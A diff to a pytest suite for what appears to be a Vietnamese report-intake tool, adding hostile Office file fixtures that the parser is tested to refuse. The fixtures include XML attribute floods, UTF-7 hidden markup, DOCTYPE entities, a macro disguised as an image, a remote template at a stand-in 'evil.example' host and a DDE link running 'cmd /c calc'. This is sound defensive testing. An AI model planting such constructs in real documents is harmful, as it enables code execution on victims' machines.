@@ -9,9 +9,11 @@ import re
 import shutil
 import subprocess
 import sys
+import warnings
 import zipfile
 from pathlib import Path
 
+import docx
 import pytest
 import yaml
 
@@ -58,6 +60,59 @@ def many_elements(target: Path) -> Path:
     assert info.file_size < ooxml.MAX_UNPACKED
     assert info.file_size < ooxml.MAX_RATIO * info.compress_size
     return target
+
+
+W_DOC = ('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+         '<w:body>{}</w:body></w:document>')
+DOCX_TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+              'content-types"><Default Extension="xml" ContentType="application/xml"/>'
+              '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
+              'officedocument.wordprocessingml.document.main+xml"/></Types>')
+
+
+def bare_docx(target: Path, document: bytes) -> Path:
+    """A .docx of two parts: the content types and ``document``."""
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("[Content_Types].xml", DOCX_TYPES)
+        zf.writestr("word/document.xml", document)
+    info = zipfile.ZipFile(target).getinfo("word/document.xml")
+    # inside every limit on bytes: only what the parser would build can stop it
+    assert target.stat().st_size < ooxml.MAX_FILE and info.file_size < ooxml.MAX_UNPACKED
+    assert info.file_size < ooxml.MAX_RATIO * info.compress_size
+    return target
+
+
+def many_attributes(target: Path) -> Path:
+    """240.000 elements of 30 attributes each: few «<», 7 million attributes (a 6 MB file)."""
+    noise = random.Random(2).randbytes(240_000 * 30).hex()
+    names = "abcdefghijklmnopqrstuvwxyzABCD"
+    body = "".join("<w:p " + " ".join(f'{a}="{noise[2 * (30 * i + k):2 * (30 * i + k) + 2]}"'
+                                      for k, a in enumerate(names)) + "/>"
+                   for i in range(240_000))
+    return bare_docx(target, ('<?xml version="1.0" encoding="UTF-8"?>' + W_DOC.format(body)).encode())
+
+
+def utf7_markup(target: Path) -> Path:
+    """document.xml declared UTF-7, every «<» but the declaration's written «+ADw-»: no
+    markup to count in its bytes, 1,5 million elements once decoded."""
+    rng = random.Random(3)
+    noise = rng.randbytes(1_500_000 * 2).hex().upper()
+    body = "".join(f"+ADw-w:p w:rsidR=+ACI-{noise[4 * i:4 * i + 4]}+ACI-/+AD4-" for i in range(1_500_000))
+    head = ('+ADw-w:document xmlns:w=+ACI-http://schemas.openxmlformats.org/wordprocessingml/2006/'
+            'main+ACI-+AD4-+ADw-w:body+AD4-')
+    xml = '<?xml version="1.0" encoding="UTF-7"?>' + head + body + "+ADw-/w:body+AD4-+ADw-/w:document+AD4-"
+    assert xml.count("<") == 1
+    return bare_docx(target, xml.encode("ascii"))
+
+
+DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "b">]>'
+
+
+def with_doctype(part: str):
+    """A change putting a DOCTYPE (with an entity) after the declaration of ``part``."""
+    def change(name: str, data: bytes) -> bytes:
+        return data.replace(b"?>", b"?>" + DOCTYPE, 1) if name == part else data
+    return change
 
 
 @pytest.fixture(scope="module")
@@ -115,7 +170,77 @@ def batch(tmp_path_factory):
     newline = folder / "Báo cáo\nxấu.docx"
     newline.write_bytes(b"not a zip at all")
     hostile["ten-co-xuong-dong"] = newline
-    return {"folder": folder, "good": good, "hostile": hostile, "root": root}
+
+    # -- what parsers build, not bytes -------------------------------------------------------
+    hostile["nhieu-thuoc-tinh"] = many_attributes(folder / "nhieu-thuoc-tinh.docx")
+    hostile["utf-7"] = utf7_markup(folder / "utf-7.docx")
+    # -- the same rules in every part, read by vanban or not ----------------------------------
+    for name, part in (("doctype-styles", "word/styles.xml"), ("doctype-settings", "word/settings.xml"),
+                       ("doctype-header", "word/header1.xml"),
+                       ("doctype-rels", "word/_rels/document.xml.rels"),
+                       ("doctype-docprops", "docProps/app.xml")):
+        unit = next(forged)
+        hostile[name] = rezip(filled(unit), folder / f"{name}.docx", with_doctype(part))
+    unit = next(forged)
+    hostile["doctype-utf16"] = rezip(
+        filled(unit), folder / "doctype-utf16.docx",
+        lambda n, d: (with_doctype(n)(n, d).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
+                      .encode("utf-16") if n == "word/fontTable.xml" else d))
+    unit = next(forged)
+    hostile["macro-ten-khac"] = rezip(   # macros as a «picture»: only the relationship says what it is
+        filled(unit), folder / "macro-ten-khac.docx",
+        lambda n, d: (d.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.'
+                                b'microsoft.com/office/2006/relationships/vbaProject" Target="media/'
+                                b'logo.png"/></Relationships>') if n == "word/_rels/document.xml.rels"
+                      else d.replace(b"<Default ", b'<Default Extension="png" ContentType="image/png"/>'
+                                     b"<Default ", 1) if n == "[Content_Types].xml" else d),
+        extra={"word/media/logo.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096})
+    unit = next(forged)
+    hostile["mau-o-xa"] = rezip(
+        filled(unit), folder / "mau-o-xa.docx",
+        extra={"word/_rels/settings.xml.rels": (
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
+            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
+            'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.'
+            'example/mau.dotm" TargetMode="External"/></Relationships>').encode()})
+    unit = next(forged)
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")   # zipfile warns of the duplicate: that is the point
+        hostile["hai-phan-cung-ten"] = rezip(
+            filled(unit), folder / "hai-phan-cung-ten.docx",
+            extra={"word/document.xml": W_DOC.format("").encode()})
+    unit = next(forged)
+    book = openpyxl.load_workbook(out / "don-vi" / f"{unit}.xlsx")
+    book["Phụ lục 1"]["D7"] = 120
+    book.save(root / "lien-ket-ngoai.xlsx")
+    link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
+            'openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc">'
+            '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>')
+    hostile["lien-ket-ngoai"] = rezip(
+        root / "lien-ket-ngoai.xlsx", folder / "lien-ket-ngoai.xlsx",
+        lambda n, d: (d.replace(b"</Relationships>", b'<Relationship Id="rIdDde" Type="http://schemas.'
+                                b'openxmlformats.org/officeDocument/2006/relationships/externalLink" '
+                                b'Target="externalLinks/externalLink1.xml"/></Relationships>')
+                      if n == "xl/_rels/workbook.xml.rels" else d),
+        extra={"xl/externalLinks/externalLink1.xml": link.encode()})
+    # -- absurd figures: the file is taken, the cell is a finding -----------------------------
+    absurd = {}
+    unit = next(forged)
+    source = filled(unit)
+    document = docx.Document(source)
+    fill_returns.type_into(fill_returns.marked_cells(document)["vanban:pl1:r2:so-luong"],
+                           "1000000000000000000000000000000")
+    document.save(folder / "so-qua-lon.docx")
+    absurd["so-qua-lon"] = unit
+    unit = next(forged)
+    book = openpyxl.load_workbook(out / "don-vi" / f"{unit}.xlsx")
+    book["Phụ lục 1"]["D7"], book["Phụ lục 1"]["D8"] = 120, 5
+    book.save(root / "so-vo-han.xlsx")
+    rezip(root / "so-vo-han.xlsx", folder / "so-vo-han.xlsx",
+          lambda n, d: re.sub(rb'(<c r="D8"[^>]*>)<v>5</v>', rb"\g<1><v>1e400</v>", d)
+          if n.startswith("xl/worksheets/") else d)
+    absurd["so-vo-han"] = unit
+    return {"folder": folder, "good": good, "hostile": hostile, "root": root, "absurd": absurd}
 
 
 REASONS = {
@@ -127,6 +252,18 @@ REASONS = {
     "cong-thuc": "chứa công thức «=1+1»",
     "dde": "DDE",
     "ten-co-xuong-dong": "không phải tệp .docx",
+    "nhieu-thuoc-tinh": "thuộc tính",
+    "utf-7": "bảng mã «UTF-7»",
+    "doctype-styles": "word/styles.xml có khai báo DOCTYPE",
+    "doctype-settings": "word/settings.xml có khai báo DOCTYPE",
+    "doctype-header": "word/header1.xml có khai báo DOCTYPE",
+    "doctype-rels": "word/_rels/document.xml.rels có khai báo DOCTYPE",
+    "doctype-docprops": "docProps/app.xml có khai báo DOCTYPE",
+    "doctype-utf16": "word/fontTable.xml có khai báo DOCTYPE",
+    "macro-ten-khac": "macro",
+    "mau-o-xa": "mẫu đính kèm (attached template) ở máy khác",
+    "hai-phan-cung-ten": "hai phần cùng tên «word/document.xml»",
+    "lien-ket-ngoai": "liên kết ngoài",
 }
 
 
@@ -146,8 +283,11 @@ def test_hostile_files_stay_out_and_the_rest_is_taken(batch, tmp_path):
     assert "Traceback" not in err
     peak_mb = int(re.search(r"PEAK (\d+)", err).group(1)) // 1024
     refused = [line for line in err.splitlines() if ": không nhận: " in line]
-    print(f"\nlô thử: {len(batch['hostile']) + len(batch['good'])} tệp, không nhận {len(refused)}, "
-          f"nhận {len(batch['good'])}; bộ nhớ cao nhất {peak_mb} MB")
+    tried = len(list(batch["folder"].iterdir()))
+    taken = sorted(p.stem for p in (data / "bao-cao").glob("*.yaml"))
+    print(f"\nlô thử: {tried} tệp, không nhận {len(refused)}, nhận {len(taken)}; "
+          f"bộ nhớ cao nhất {peak_mb} MB")
+    assert tried == len(batch["hostile"]) + len(batch["good"]) + len(batch["absurd"])
     for name, path in batch["hostile"].items():
         shown = str(path).replace("\n", "\\n")
         line = next((l for l in refused if l.startswith(shown + ": ")), None)
@@ -155,10 +295,15 @@ def test_hostile_files_stay_out_and_the_rest_is_taken(batch, tmp_path):
         assert REASONS[name] in line, line
     assert "\nxấu.docx" not in err and "Báo cáo\\nxấu.docx" in err   # printed, not obeyed
     assert not re.search(r"\b(Error|error|Exception|No such|line \d+, column)\b", err), err
-    taken = sorted(p.stem for p in (data / "bao-cao").glob("*.yaml"))
-    assert taken == sorted(batch["good"])
+    assert len(refused) == len(batch["hostile"])
+    assert taken == sorted(batch["good"] + list(batch["absurd"].values()))
     for record in (data / "bao-cao").glob("*.yaml"):
-        assert yaml.safe_load(record.read_text(encoding="utf-8"))["source"]["file"].startswith("tot-")
+        saved = yaml.safe_load(record.read_text(encoding="utf-8"))
+        if record.stem in batch["absurd"].values():     # taken; the absurd cell a finding, blank
+            assert saved["figures"]["pl1"]["r2"]["so-luong"] is None
+            assert any("dòng «Số văn bản" in f for f in saved["findings"])
+        else:
+            assert saved["source"]["file"].startswith("tot-")
     assert peak_mb < 300, peak_mb
     assert not (tmp_path / "ngoai.txt").exists() and not Path("/etc/vanban.txt").exists()
 
@@ -182,3 +327,26 @@ def test_deep_nesting_is_refused():
     xml = b"<a>" * 300 + b"</a>" * 300
     with pytest.raises(ooxml.Refused, match="lồng quá sâu"):
         ooxml.safe_xml(xml, "word/document.xml")
+
+
+@pytest.mark.parametrize("encoding", ["UTF-7", "ISO-8859-1", "UTF-32", "cp1258"])
+def test_only_the_encodings_office_writes_are_read(encoding):
+    xml = f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode()
+    with pytest.raises(ooxml.Refused, match=f"bảng mã «{encoding}»"):
+        ooxml.safe_xml(xml, "word/document.xml")
+
+
+def test_a_part_in_utf16_is_read():
+    xml = '<?xml version="1.0" encoding="UTF-16"?><a b="Đảng ủy"><c/></a>'.encode("utf-16")
+    assert ooxml.safe_xml(xml, "word/document.xml").get("b") == "Đảng ủy"
+
+
+def test_the_budget_counts_what_the_parser_builds():
+    """Elements, attributes and namespace declarations count; text that only looks like markup
+    («=» in words) does not make a genuine part refused."""
+    three = b'<a xmlns:x="u" x:b="1"><c/></a>'          # 2 elements, 1 attribute, 1 declaration
+    assert ooxml.safe_xml(three, "p", budget=4) is not None
+    with pytest.raises(ooxml.Refused, match="thuộc tính"):
+        ooxml.safe_xml(three, "p", budget=3)
+    words = b"<a>" + b"x = y; " * 50 + b"</a>"              # 50 «=» that are words, 1 element
+    assert ooxml.safe_xml(words, "p", budget=2).text.startswith("x = y")
